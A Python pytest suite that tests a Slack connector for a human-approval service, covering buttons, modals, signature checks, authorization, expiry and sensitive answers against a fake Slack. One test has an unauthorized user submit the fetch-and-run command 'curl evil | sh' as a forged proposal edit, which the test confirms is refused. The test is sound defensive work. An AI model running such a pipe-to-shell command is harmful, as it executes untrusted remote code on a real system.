"""The Slack connector end to end: the real app and HTTP API, slack-bolt and slack_sdk against FakeSlack,
interactions posted signed to /bots/slack/events as Slack sends them, and Socket Mode."""

from __future__ import annotations

import asyncio
import contextlib
import datetime as dt
import logging
import time
from typing import Any

import aiohttp
import pytest

import handraise.bots.slack.connector as slack_connector
from handraise.bots.slack import SlackConnector
from conftest import OPERATOR_KEY, base_config, settings_from, sweeper_held
from handraise.core.appkeys import CONNECTORS, DISPATCHER, SERVICE
from handraise.core.errors import ConfigError
from tests.bots.offline import NO_CORE
from tests.bots.slack_helpers import (
    ACME_CHANNEL,
    ALICE,
    BOB,
    CAROL,
    MALLORY,
    SIGNING_SECRET,
    HoldingFakeSlack,
    buttons,
    date_value,
    datetime_value,
    ephemerals_for,
    option_value,
    options_value,
    post_event,
    post_signed,
    posted_message,
    request_body,
    slack_app,
    slack_section,
    tap,
    text_value,
    time_value,
    wait_for_count,
)
from tests.bots.slack_helpers import fake  # noqa: F401  (the fixture)
from tests.fakes.slack import DEFAULT_TEAM_ID, FakeSlack, form_body, sign_request

pytestmark = pytest.mark.timeout(30)

TEAM = DEFAULT_TEAM_ID


# -- the message and its buttons -----------------------------------------------------


async def test_boolean_tap_answers_and_the_message_shows_who(storage_url: str, fake: FakeSlack) -> None:
    async with slack_app(storage_url, fake) as api:
        req = await api.create(request_body("b1", schema={"type": "boolean"}, kind="choice"))
        message = await posted_message(fake, req)
        assert "Deploy build 42 to production?" in message["blocks"][0]["text"]["text"]
        shown = buttons(message)
        assert list(shown) == ["Yes", "No", "Open form"]
        # Button values are opaque tokens, never the request id.
        assert all(req["id"] not in b["value"] and len(b["value"]) <= 32 for b in shown.values())
        context = message["blocks"][-1]
        assert context["type"] == "context" and "Answer by <!date^" in context["elements"][0]["text"]

        status, body = await post_signed(api, tap(fake, message, "Yes", user=ALICE))
        assert (status, body) == (200, "")
        done = await api.wait(req["id"])
        assert done["status"] == "answered" and done["response"] is True
        assert done["answered_by"] == f"slack:{TEAM}/{ALICE}" and done["answered_via"] == "slack"

        update = await fake.wait_for_call("chat.update")
        assert update["ts"] == message["ts"]
        after = fake.message(message["channel"], message["ts"])
        assert after["text"] == f"✅ Answered by <@{ALICE}> via Slack"
        assert buttons(after) == {}
        await api.app[DISPATCHER].idle()
        _, seen = await api.call("GET", f"/v1/requests/{req['id']}")
        assert [(d["channel"], d["target"], d["status"]) for d in seen["deliveries"]] == [
            ("slack", ACME_CHANNEL, "withdrawn")]


async def test_approval_buttons_reject_with_confirm(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("a1", kind="approval"))
        message = await posted_message(fake, req)
        shown = buttons(message)
        assert list(shown) == ["Approve", "Reject", "Answer here", "Open form"]
        assert shown["Approve"]["style"] == "primary"
        assert shown["Reject"]["style"] == "danger"
        assert shown["Reject"]["confirm"]["confirm"]["text"] == "Reject"
        assert "*Approval requested*" in message["blocks"][0]["text"]["text"]

        assert (await post_signed(api, tap(fake, message, "Reject", user=BOB)))[0] == 200
        done = await api.wait(req["id"])
        assert done["response"] == {"decision": "reject"}
        await fake.wait_for_call("chat.update")
        assert fake.message(message["channel"], message["ts"])["text"] == f"❌ Rejected by <@{BOB}> via Slack"


async def test_enum_buttons_up_to_five_choices_else_answer_here(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        few = await api.create(request_body("e1", schema={"type": "string", "enum": ["red", "green", "blue"]}))
        message = await posted_message(fake, few)
        assert list(buttons(message)) == ["red", "green", "blue", "Open form"]
        assert (await post_signed(api, tap(fake, message, "green", user=ALICE)))[0] == 200
        assert (await api.wait(few["id"]))["response"] == "green"
        await fake.wait_for_call("chat.update")
        updated = fake.message(message["channel"], message["ts"])
        assert updated["blocks"][1]["elements"][0]["text"].endswith("Answer: *green*")

        many = await api.create(request_body("e2", schema={"type": "string", "enum": list("abcdef")}))
        second = (await wait_for_count(fake, "chat.postMessage", 2))[1]
        message = fake.message(second.response["channel"], second.response["ts"]) | {"channel": ACME_CHANNEL}
        assert list(buttons(message)) == ["Answer here", "Open form"]
        assert many["status"] == "pending"


async def test_a_token_answers_only_its_own_request(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        first = await api.create(request_body("t1", schema={"type": "boolean"}))
        first_message = await posted_message(fake, first)
        second = await api.create(request_body("t2", schema={"type": "boolean"}))
        await wait_for_count(fake, "chat.postMessage", 2)
        posted = fake.calls_of("chat.postMessage")[1].response
        # The first request's "Yes" token, clicked as if it were on the second message.
        forged = fake.make_block_action(user_id=ALICE, action_id="hr_0", value=buttons(first_message)["Yes"]["value"],
                                        channel=ACME_CHANNEL, message_ts=posted["ts"])
        assert (await post_signed(api, forged))[0] == 200
        assert (await api.wait(first["id"]))["status"] == "answered"
        _, still = await api.call("GET", f"/v1/requests/{second['id']}")
        assert still["status"] == "pending"

        unknown = fake.make_block_action(user_id=ALICE, action_id="hr_0", value="not-a-token",
                                         channel=ACME_CHANNEL, message_ts=posted["ts"])
        assert (await post_signed(api, unknown))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 1)
        assert ephemerals_for(fake, ALICE) == ["This button is no longer valid."]
        _, still = await api.call("GET", f"/v1/requests/{second['id']}")
        assert still["status"] == "pending"


# -- the modal -----------------------------------------------------------------------

CITIES = ["Oslo", "Lima", "Pune", "Kyiv", "Baku", "Doha", "Riga", "Suva"]
FORM = {
    "type": "object",
    "properties": {
        "name": {"type": "string", "title": "Your name", "maxLength": 40},
        "notes": {"type": "string", "maxLength": 500},
        "count": {"type": "integer", "minimum": 1, "maximum": 10},
        "ratio": {"type": "number"},
        "agree": {"type": "boolean"},
        "size": {"type": "string", "enum": ["S", "M", "L"]},
        "city": {"type": "string", "enum": CITIES},
        "tags": {"type": "array", "items": {"type": "string", "enum": ["red", "green", "blue"]}, "uniqueItems": True},
        "day": {"type": "string", "format": "date"},
        "trip": {"type": "array", "items": {"type": "string", "format": "date"}, "minItems": 2, "maxItems": 2},
        "at": {"type": "string", "format": "time"},
        "when": {"type": "string", "format": "date-time"},
        "email": {"type": "string", "format": "email"},
        "site": {"type": "string", "format": "uri"},
    },
    "required": ["name", "count", "trip"],
}


async def open_modal(api: Any, fake: FakeSlack, message: dict[str, Any], *, user: str = ALICE) -> dict[str, Any]:
    before = len(fake.calls_of("views.open"))
    assert (await post_signed(api, tap(fake, message, "Answer here", user=user)))[0] == 200
    calls = await wait_for_count(fake, "views.open", before + 1)
    assert calls[-1].ok, calls[-1].response
    return calls[-1].response["view"]


async def test_modal_from_the_schema_errors_on_their_blocks_then_success(
    sqlite_url: str, fake: FakeSlack, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("m1", schema=FORM, message_for_user="Book the trip"))
        message = await posted_message(fake, req)
        assert list(buttons(message)) == ["Answer here", "Open form"]
        view = await open_modal(api, fake, message)
        assert view["callback_id"] == "hr_modal"
        assert view["private_metadata"] == buttons(message)["Answer here"]["value"]
        assert req["id"] not in str(view)
        inputs = {b["block_id"]: b for b in view["blocks"] if b["type"] == "input"}
        kinds = {bid: b["element"]["type"] for bid, b in inputs.items()}
        assert kinds == {
            "name": "plain_text_input", "notes": "plain_text_input", "count": "number_input",
            "ratio": "number_input", "agree": "radio_buttons", "size": "radio_buttons", "city": "static_select",
            "tags": "checkboxes", "day": "datepicker", "trip": "datepicker", "trip:end": "datepicker",
            "at": "timepicker", "when": "datetimepicker", "email": "email_text_input", "site": "url_text_input",
        }
        assert inputs["name"]["label"]["text"] == "Your name" and inputs["name"]["optional"] is False
        assert inputs["name"]["element"]["max_length"] == 40 and inputs["name"]["element"]["multiline"] is False
        assert inputs["notes"]["element"]["multiline"] is True and inputs["notes"]["optional"] is True
        assert inputs["count"]["element"] == {"type": "number_input", "action_id": "value",
                                             "is_decimal_allowed": False, "min_value": "1", "max_value": "10"}
        assert inputs["ratio"]["element"]["is_decimal_allowed"] is True
        assert [o["text"]["text"] for o in inputs["city"]["element"]["options"]] == CITIES

        bad = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={
            "count": text_value("42", "number_input"),
            "email": text_value("not-an-email", "email_text_input"),
            "trip": date_value("2026-05-10"), "trip:end": date_value("2026-05-01"),
        })
        status, body = await post_signed(api, bad)
        assert status == 200
        assert body == {"response_action": "errors", "errors": {
            "name": "Enter an answer.",
            "count": "Enter a whole number from 1 to 10.",
            "trip": "Put the start date on or before the end date.",
            "email": "Enter an email address like name@example.com.",
        }}
        _, pending = await api.call("GET", f"/v1/requests/{req['id']}")
        assert pending["status"] == "pending"

        when = int(dt.datetime(2026, 1, 2, 14, 30, tzinfo=dt.UTC).timestamp())
        good = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={
            "name": text_value("  Zanzibar-Q7  "),
            "notes": text_value("line one\nline two"),
            "count": text_value("3", "number_input"),
            "ratio": text_value("2.5", "number_input"),
            "agree": option_value("true"),
            "size": option_value(2),
            "city": option_value(6, "static_select"),
            "tags": options_value([0, 2]),
            "day": date_value("2026-04-01"),
            "trip": date_value("2026-05-01"), "trip:end": date_value("2026-05-10"),
            "at": time_value("09:15"),
            "when": datetime_value(when),
            "email": text_value("ops@example.com", "email_text_input"),
            "site": text_value("https://example.com/run/7", "url_text_input"),
        })
        assert await post_signed(api, good) == (200, "")
        done = await api.wait(req["id"])
        assert done["response"] == {
            "name": "Zanzibar-Q7", "notes": "line one\nline two", "count": 3, "ratio": 2.5, "agree": True,
            "size": "L", "city": "Riga", "tags": ["red", "blue"], "day": "2026-04-01",
            "trip": ["2026-05-01", "2026-05-10"], "at": "09:15", "when": "2026-01-02T14:30:00Z",
            "email": "ops@example.com", "site": "https://example.com/run/7",
        }
        assert done["answered_by"] == f"slack:{TEAM}/{ALICE}"
        await fake.wait_for_call("chat.update")
        assert fake.message(message["channel"], message["ts"])["text"] == f"✅ Answered by <@{ALICE}> via Slack"
        # The invalid attempt is journaled with its messages, never its values.
        events = [e["event"] for e in await api.journal(req["id"])]
        assert events.count("invalid_attempt") == 1 and events.count("answered") == 1

        # A second submission of the same modal is too late, and says so in the modal.
        status, body = await post_signed(api, good)
        assert status == 200 and body["response_action"] == "update"
        assert "already answered" in body["view"]["blocks"][0]["text"]["text"]
    assert "Zanzibar-Q7" not in caplog.text and "not-an-email" not in caplog.text


async def test_approval_modal_takes_a_reason(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("m2", kind="approval"))
        message = await posted_message(fake, req)
        view = await open_modal(api, fake, message, user=BOB)
        inputs = {b["block_id"]: b for b in view["blocks"] if b["type"] == "input"}
        decision = inputs["decision"]["element"]
        assert decision["type"] == "radio_buttons"
        assert [o["text"]["text"] for o in decision["options"]] == ["Approve", "Reject"]
        assert inputs["reason"]["element"]["multiline"] is True and inputs["reason"]["optional"] is True

        missing = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={"reason": text_value("why")})
        assert (await post_signed(api, missing))[1] == {"response_action": "errors",
                                                        "errors": {"decision": "Choose an answer."}}
        good = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
            "decision": option_value(0), "reason": text_value("tests are green")})
        assert await post_signed(api, good) == (200, "")
        done = await api.wait(req["id"])
        assert done["response"] == {"decision": "approve", "reason": "tests are green"}
        await fake.wait_for_call("chat.update")
        assert fake.message(message["channel"], message["ts"])["text"] == f"✅ Approved by <@{BOB}> via Slack"


PROPOSAL_SCHEMA = {"type": "object", "properties": {
    "command": {"type": "string", "title": "Command", "minLength": 3},
    "replicas": {"type": "integer", "minimum": 1, "maximum": 9}}, "required": ["command"]}


async def test_approval_modal_edits_the_proposal(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("m-edit", kind="approval", proposal={"command": "deploy", "replicas": 3},
                                            proposal_schema=PROPOSAL_SCHEMA))
        message = await posted_message(fake, req)
        view = await open_modal(api, fake, message, user=BOB)
        inputs = {b["block_id"]: b for b in view["blocks"] if b["type"] == "input"}
        # The proposal's fields come first, filled in, then the decision and the reason.
        assert list(inputs) == ["proposal.command", "proposal.replicas", "decision", "reason"]
        assert inputs["proposal.command"]["element"]["initial_value"] == "deploy"
        assert inputs["proposal.replicas"]["element"]["initial_value"] == "3"
        assert not any("To change it" in (b.get("text") or {}).get("text", "") for b in view["blocks"])

        # An invalid edit keeps the modal open with core's message on the field's block.
        bad = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
            "proposal.command": text_value("rm"), "proposal.replicas": text_value("3", "number_input"),
            "decision": option_value(0)})
        status, body = await post_signed(api, bad)
        assert status == 200 and body["response_action"] == "errors"
        assert list(body["errors"]) == ["proposal.command"] and "at least 3" in body["errors"]["proposal.command"]
        assert (await api.call("GET", f"/v1/requests/{req['id']}"))[1]["status"] == "pending"

        good = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
            "proposal.command": text_value("deploy --canary"), "proposal.replicas": text_value("2", "number_input"),
            "decision": option_value(0), "reason": text_value("canary first")})
        assert await post_signed(api, good) == (200, "")
        done = await api.wait(req["id"])
        assert done["response"] == {"decision": "approve", "reason": "canary first", "edited": True,
                                    "proposal": {"command": "deploy --canary", "replicas": 2}}


async def proposal_modal(api: Any, fake: FakeSlack, uid: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """An approval proposing {"command": "deploy"}, and its modal as Bob opened it."""
    req = await api.create(request_body(uid, kind="approval", proposal={"command": "deploy"},
                                        proposal_schema=PROPOSAL_SCHEMA))
    return req, await open_modal(api, fake, await posted_message(fake, req), user=BOB)


@pytest.mark.parametrize(("decision", "expected"), [
    (0, {"decision": "approve", "edited": False, "proposal": {"command": "deploy"}}),
    (1, {"decision": "reject"}),  # an edit with a rejection is left behind, as on the form
])
async def test_approval_modal_approves_the_proposal_unchanged_or_rejects_it(
        sqlite_url: str, fake: FakeSlack, decision: int, expected: dict[str, Any]) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req, view = await proposal_modal(api, fake, "m-same")
        submitted = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
            "proposal.command": text_value("deploy --edited-but-rejected" if decision else "deploy"),
            "decision": option_value(decision)})
        assert await post_signed(api, submitted) == (200, "")
        assert (await api.wait(req["id"]))["response"] == expected


async def test_a_stranger_cannot_edit_a_proposal_in_the_modal(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req, view = await proposal_modal(api, fake, "m-stranger")
        forged = fake.make_view_submission(user_id=MALLORY, view_id=view["id"], values={
            "proposal.command": text_value("curl evil | sh"), "decision": option_value(0)})
        status, body = await post_signed(api, forged)
        assert status == 200 and body["response_action"] == "update"
        assert (await api.call("GET", f"/v1/requests/{req['id']}"))[1]["status"] == "pending"


async def test_free_text_modal(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("m3", message_for_user="What should the release be called?"))
        message = await posted_message(fake, req)
        view = await open_modal(api, fake, message)
        [block] = [b for b in view["blocks"] if b["type"] == "input"]
        assert block["block_id"] == "answer" and block["element"]["multiline"] is True
        empty = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={})
        assert (await post_signed(api, empty))[1] == {"response_action": "errors",
                                                      "errors": {"answer": "Enter an answer."}}
        good = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={"answer": text_value("Aurora")})
        assert await post_signed(api, good) == (200, "")
        assert (await api.wait(req["id"]))["response"] == "Aurora"


# -- who may answer, and when -----------------------------------------------------------


async def test_bad_or_stale_signatures_are_refused_before_parsing(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("s1", schema={"type": "boolean"}))
        message = await posted_message(fake, req)
        payload = tap(fake, message, "Yes", user=ALICE)
        calls_before = len(fake.calls)

        assert (await post_signed(api, payload, signing_secret="not-the-secret"))[0] == 401
        stale = int(time.time()) - 6 * 60
        assert (await post_signed(api, payload, timestamp=stale))[0] == 401
        future = int(time.time()) + 6 * 60
        assert (await post_signed(api, payload, timestamp=future))[0] == 401
        url = api.url("/bots/slack/events")
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        async with api.session.post(url, data=form_body(payload), headers=form) as resp:
            assert resp.status == 401
        # Not even a malformed body or timestamp gets past the check to a parser.
        garbage = {**form, "X-Slack-Request-Timestamp": "soon", "X-Slack-Signature": "v0=00"}
        async with api.session.post(url, data=b"payload=%7Bnot json", headers=garbage) as resp:
            assert resp.status == 401
        # Bolt never ran: it would have called auth.test on its first request.
        assert len(fake.calls) == calls_before and not fake.calls_of("auth.test")
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"

        # The positive control: the same click, signed now, answers.
        assert (await post_signed(api, payload))[0] == 200
        assert (await api.wait(req["id"]))["response"] is True


async def test_a_stranger_is_told_not_authorized_and_nothing_changes(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("x1", kind="approval"))
        message = await posted_message(fake, req)
        # MALLORY is nobody's; CAROL answers for globex, not acme.
        for user, label in ((MALLORY, "Approve"), (CAROL, "Approve"), (MALLORY, "Answer here"),
                            (MALLORY, "Open form")):
            assert (await post_signed(api, tap(fake, message, label, user=user)))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 4)
        assert ephemerals_for(fake, MALLORY) == ["You are not authorized to answer this."] * 3
        assert ephemerals_for(fake, CAROL) == ["You are not authorized to answer this."]
        assert not fake.calls_of("views.open")
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"
        refused = [e for e in await api.journal(req["id"]) if e["event"] == "answer_refused"]
        # Each tap is handled in its own task after its ack, so their order is not fixed.
        assert sorted(e["principal"] for e in refused) == [f"slack:{TEAM}/{CAROL}"] + [f"slack:{TEAM}/{MALLORY}"] * 3
        assert not [e for e in await api.journal(req["id"]) if e["event"] == "link_minted"]


async def test_taps_on_resolved_requests_say_answered_or_expired(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        answered = await api.create(request_body("r1", schema={"type": "boolean"}))
        message = await posted_message(fake, answered)
        assert (await api.submit("r1", False))[0] == 200
        await fake.wait_for_call("chat.update")
        assert fake.message(message["channel"], message["ts"])["text"] == "✅ Answered by operator op-1 via the API"
        assert (await post_signed(api, tap(fake, message, "Yes", user=ALICE)))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 1)
        assert ephemerals_for(fake, ALICE) == ["This was already answered."]

        expiring = await api.create(request_body("r2", schema={"type": "boolean"}, timeout_seconds=1))
        await wait_for_count(fake, "chat.postMessage", 2)
        posted = fake.calls_of("chat.postMessage")[1].response
        second = fake.message(posted["channel"], posted["ts"]) | {"channel": posted["channel"]}
        assert (await api.wait(expiring["id"]))["status"] == "expired"
        # Withdraw: the expired message loses its buttons.
        await fake.wait_for_call("chat.update", lambda c: c["ts"] == posted["ts"])
        after = fake.message(posted["channel"], posted["ts"])
        assert after["text"].startswith("⌛ Expired") and buttons(after) == {}
        assert (await post_signed(api, tap(fake, second, "No", user=BOB)))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 2)
        assert ephemerals_for(fake, BOB) == ["This question expired."]
        _, final = await api.call("GET", f"/v1/requests/{expiring['id']}")
        assert final["status"] == "expired"


async def test_taps_past_the_deadline_before_the_sweep_are_told_it_expired(storage_url: str, fake: FakeSlack) -> None:
    # The deadline has passed and the sweeper has not run: a button, "Open form", "Answer here" and a thread
    # reply each apply it there and then and say what they would after the sweep. Expired once; no link
    # minted, no modal opened.
    async with slack_app(storage_url, fake) as api:
        req = await api.create(request_body("late1", kind="approval", timeout_seconds=600))
        message = await posted_message(fake, req)
        await api.app[DISPATCHER].idle()  # the message is remembered: a thread reply finds its request
        async with sweeper_held(api):
            api.app[SERVICE].clock = lambda: time.time() + 3600
            for user, label in ((ALICE, "Approve"), (BOB, "Open form"), (ALICE, "Answer here")):
                assert (await post_signed(api, tap(fake, message, label, user=user)))[0] == 200
            assert (await post_event(api, reply_event(message, "approve", user=BOB), team_id=TEAM))[0] == 200
            await wait_for_count(fake, "chat.postEphemeral", 4)
        assert ephemerals_for(fake, ALICE) + ephemerals_for(fake, BOB) == ["This question expired."] * 4
        assert not fake.calls_of("views.open")
        events = [e["event"] for e in await api.journal(req["id"])]
        assert events.count("expired") == 1 and "link_minted" not in events


async def test_cancel_withdraws_the_buttons(storage_url: str, fake: FakeSlack) -> None:
    async with slack_app(storage_url, fake) as api:
        req = await api.create(request_body("c1", kind="approval"))
        message = await posted_message(fake, req)
        status, _ = await api.call("POST", f"/v1/requests/{req['id']}/cancel")
        assert status == 200
        update = await fake.wait_for_call("chat.update")
        assert update["channel"] == ACME_CHANNEL and update["ts"] == message["ts"]
        after = fake.message(message["channel"], message["ts"])
        assert after["text"] == "🚫 Cancelled" and buttons(after) == {}
        assert "Deploy build 42" in after["blocks"][0]["text"]["text"]


async def test_racing_taps_and_a_form_submission_have_one_winner(storage_url: str, fake: FakeSlack) -> None:
    async with slack_app(storage_url, fake) as api:
        req = await api.create(request_body("race", kind="approval"))
        message = await posted_message(fake, req)
        status, link = await api.call("POST", f"/v1/requests/{req['id']}/links", key=OPERATOR_KEY)
        assert status == 201
        token = link["url"].rsplit("/", 1)[1]
        taps = [tap(fake, message, label, user=user)
                for user, label in ((ALICE, "Approve"), (BOB, "Reject"), (ALICE, "Reject"), (BOB, "Approve"))]

        async def form() -> str:
            try:
                await api.app[SERVICE].submit_link(token=token, response={"decision": "reject"})
                return "won"
            except Exception as e:  # the loser's 409/410, whichever it is
                return type(e).__name__

        results = await asyncio.gather(form(), *(post_signed(api, t) for t in taps))
        assert all(r[0] == 200 for r in results[1:])
        done = await api.wait(req["id"])
        assert done["status"] == "answered"
        form_won = results[0] == "won"
        assert form_won == done["answered_by"].startswith("link:")
        losing_taps = len(taps) - (0 if form_won else 1)
        await wait_for_count(fake, "chat.postEphemeral", losing_taps)
        await api.app[DISPATCHER].idle()
        assert len(fake.calls_of("chat.postEphemeral")) == losing_taps
        assert all(e["text"] == "This was already answered." for e in fake.ephemeral_messages)
        events = [e["event"] for e in await api.journal(req["id"])]
        assert events.count("answered") == 1
        assert len(fake.calls_of("chat.update")) == 1


# -- sensitive requests --------------------------------------------------------------------


async def test_sensitive_request_shows_only_open_form_and_takes_no_modal_or_reply(
    sqlite_url: str, fake: FakeSlack, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    async with slack_app(sqlite_url, fake) as api:
        service = api.app[SERVICE]
        req = await api.create(request_body("otp", message_for_user="Enter the code sent to +49 555 0100",
                                            schema={"type": "string", "pattern": "^[0-9]{6}$"}, sensitive=True))
        message = await posted_message(fake, req)
        assert "+49 555" not in str(message) and "Enter the code" not in str(message)
        assert "private answer" in message["text"]
        assert list(buttons(message)) == ["Open form"]

        assert (await post_signed(api, tap(fake, message, "Open form", user=ALICE)))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 1)
        [sent] = fake.ephemeral_messages
        assert sent["user"] == ALICE and sent["channel"] == ACME_CHANNEL
        link_button = sent["blocks"][0]["accessory"]
        assert link_button["url"].startswith("http://127.0.0.1:8080/f/")
        minted = [e for e in await api.journal(req["id"]) if e["event"] == "link_minted"]
        assert minted[0]["data"]["recipient"] == f"slack:{TEAM}/{ALICE}"

        # Even a modal or answer token for it (none is ever minted; here we mint them) is refused.
        modal_token, answer_token = await api.app[CONNECTORS]["slack"].chat_refs.create_actions(
            tenant_id="acme", request_id=req["id"], channel="slack", values=[{"modal": True}, {"answer": "123456"}])
        forged = fake.make_view_submission(user_id=ALICE, callback_id="hr_modal", private_metadata=modal_token,
                                           values={"answer": text_value("123456")})
        status, body = await post_signed(api, forged)
        assert status == 200 and body["response_action"] == "update"
        assert (await post_signed(api, fake.make_block_action(
            user_id=ALICE, action_id="hr_0", value=answer_token, channel=ACME_CHANNEL,
            message_ts=message["ts"])))[0] == 200
        assert (await post_signed(api, fake.make_block_action(
            user_id=ALICE, action_id="hr_0", value=modal_token, channel=ACME_CHANNEL,
            message_ts=message["ts"])))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 3)
        assert not fake.calls_of("views.open")

        # A thread reply is refused and never read.
        await api.app[DISPATCHER].idle()
        reply = {"type": "message", "channel": ACME_CHANNEL, "user": ALICE, "text": "123456", "team": TEAM,
                 "ts": f"{time.time():.6f}", "thread_ts": message["ts"]}
        assert (await post_event(api, reply, team_id=TEAM))[0] == 200
        calls = await wait_for_count(fake, "chat.postEphemeral", 4)
        assert calls[-1]["thread_ts"] == message["ts"] and "only taken in the form" in calls[-1]["text"]
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"
        entries = await api.journal(req["id"])
        assert [(e["data"]["reason"], e["data"]["removed"]) for e in entries
                if e["event"] == "chat_reply_refused"] == [("sensitive", False)]  # Slack lets no bot delete it
        assert "123456" not in str(entries)

        # The form is the way in; the message then says so without the value.
        token = link_button["url"].rsplit("/", 1)[1]
        await service.submit_link(token=token, response="123456")
        done = await api.wait(req["id"])
        # The link was Alice's own: the answer is hers, through Slack.
        assert done["answered_by"] == f"slack:{TEAM}/{ALICE}" and done["response"] == "123456"
        assert done["answered_via"] == "slack"
        await fake.wait_for_call("chat.update")
        after = fake.message(message["channel"], message["ts"])
        assert after["text"] == f"✅ Answered by <@{ALICE}> via Slack" and "123456" not in str(after)
    assert "123456" not in caplog.text


async def test_masked_field_in_a_plain_request_is_form_only(sqlite_url: str, fake: FakeSlack) -> None:
    schema = {"type": "object", "properties": {"user": {"type": "string"},
                                               "password": {"type": "string", "format": "password"}}}
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("pw", schema=schema, message_for_user="Log in to the staging box"))
        message = await posted_message(fake, req)
        assert "Log in to the staging box" in message["blocks"][0]["text"]["text"]
        assert list(buttons(message)) == ["Open form"]


# -- thread replies --------------------------------------------------------------------------


def reply_event(message: dict[str, Any], text: str, *, user: str = ALICE, thread: bool = True) -> dict[str, Any]:
    event = {"type": "message", "channel": message["channel"], "user": user, "text": text, "team": TEAM,
             "ts": f"{time.time():.6f}"}
    if thread:
        event["thread_ts"] = message["ts"]
    return event


async def test_thread_replies_answer_as_typed_text(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("tr1", schema={"type": "integer", "minimum": 1, "maximum": 10},
                                            message_for_user="How many replicas?"))
        message = await posted_message(fake, req)
        # Replies are matched through the remembered message, stored right after the post.
        await api.app[DISPATCHER].idle()
        assert (await post_event(api, reply_event(message, "11"), team_id=TEAM))[0] == 200
        calls = await wait_for_count(fake, "chat.postEphemeral", 1)
        assert calls[0]["user"] == ALICE and calls[0]["thread_ts"] == message["ts"]
        assert calls[0]["text"] == "That answer is not valid:\n• Enter a whole number from 1 to 10."
        assert (await post_event(api, reply_event(message, "7", user=MALLORY), team_id=TEAM))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 2)
        assert ephemerals_for(fake, MALLORY) == ["You are not authorized to answer this."]
        # A message outside the thread is not an answer.
        assert (await post_event(api, reply_event(message, "3", thread=False), team_id=TEAM))[0] == 200
        assert (await post_event(api, reply_event(message, " 7 "), team_id=TEAM))[0] == 200
        done = await api.wait(req["id"])
        assert done["response"] == 7 and done["answered_by"] == f"slack:{TEAM}/{ALICE}"

        email = await api.create(request_body("tr2", schema={"type": "string", "format": "email"}))
        await wait_for_count(fake, "chat.postMessage", 2)
        posted = fake.calls_of("chat.postMessage")[1].response
        second = {"channel": posted["channel"], "ts": posted["ts"]}
        await api.app[DISPATCHER].idle()
        # Slack turns a typed address into a mailto link; the answer is what was typed.
        linked = reply_event(second, "<mailto:ops@example.com|ops@example.com>", user=BOB)
        assert (await post_event(api, linked, team_id=TEAM))[0] == 200
        assert (await api.wait(email["id"]))["response"] == "ops@example.com"


async def test_url_verification_and_clicks_on_the_form_link_button(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        body = '{"token":"x","challenge":"c-123","type":"url_verification"}'
        headers = {**sign_request(SIGNING_SECRET, body), "Content-Type": "application/json"}
        async with api.session.post(api.url("/bots/slack/events"), data=body.encode(), headers=headers) as resp:
            assert resp.status == 200 and (await resp.json()) == {"challenge": "c-123"}

        req = await api.create(request_body("lk", schema={"type": "boolean"}))
        message = await posted_message(fake, req)
        assert (await post_signed(api, tap(fake, message, "Open form", user=BOB)))[0] == 200
        [sent] = await wait_for_count(fake, "chat.postEphemeral", 1)
        # Slack reports a click on a URL button too; it is acknowledged and changes nothing.
        click = fake.make_block_action(user_id=BOB, action_id="hr_link", value="", channel=ACME_CHANNEL,
                                       message_ts=sent.response["message_ts"])
        assert click["container"]["is_ephemeral"] is True
        calls_before = len(fake.calls)
        assert await post_signed(api, click) == (200, "")
        await api.app[DISPATCHER].idle()
        assert len(fake.calls) == calls_before
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"


async def test_reminders_go_into_the_thread(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake, remind_after_seconds=0.2) as api:
        req = await api.create(request_body("rem", kind="approval"))
        message = await posted_message(fake, req)
        reminder = await fake.wait_for_call("chat.postMessage", lambda c: c.get("thread_ts") == message["ts"])
        assert reminder.ok and reminder["text"].startswith("⏰ Reminder: this question still needs an answer")
        assert "blocks" not in reminder.args
        await api.app[DISPATCHER].idle()
